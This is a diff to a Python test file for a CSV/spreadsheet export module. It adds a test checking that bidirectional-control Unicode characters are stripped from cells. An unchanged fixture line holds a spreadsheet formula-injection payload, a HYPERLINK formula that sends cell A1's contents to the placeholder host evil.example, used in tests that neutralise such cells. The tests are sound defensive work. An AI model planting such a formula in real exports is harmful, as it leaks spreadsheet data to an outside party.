@@ -12,6 +12,7 @@ from hypothesis import strategies as st
 from app.kernel.spreadsheet import csv_cell, csv_text, plain
 from tests.conftest import ROOT
 
+TURNING = "\u061c\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"
 LINK = '=HYPERLINK("http://evil.example/?"&A1,"Invoice")'
 
 
@@ -41,13 +42,22 @@ def test_what_was_made_inert_reads_as_what_it_was(text: str) -> None:
 
 @given(
     st.lists(
-        st.text(st.characters(exclude_characters="\r\0", exclude_categories=["Cs"])), min_size=2, max_size=5
+        st.text(st.characters(exclude_characters="\r\0" + TURNING, exclude_categories=["Cs"])),
+        min_size=2,
+        max_size=5,
     )
 )
 def test_a_table_reads_as_what_was_written(cells: list[str]) -> None:
     written = csv_text(["a", "b"], [cells], separator=";")
     _head, row = csv.reader(io.StringIO(written, newline=""), delimiter=";")
     assert [plain(cell) for cell in row] == cells
+
+
+def test_a_letter_that_turns_the_text_does_not_reach_the_cells_beside() -> None:
+    assert (
+        csv_text(["a"], [[f"x{letter}1" for letter in TURNING]])
+        == f"a\r\n{','.join(['x1'] * len(TURNING))}\r\n"
+    )
 
 
 def test_no_other_module_writes_csv() -> None:
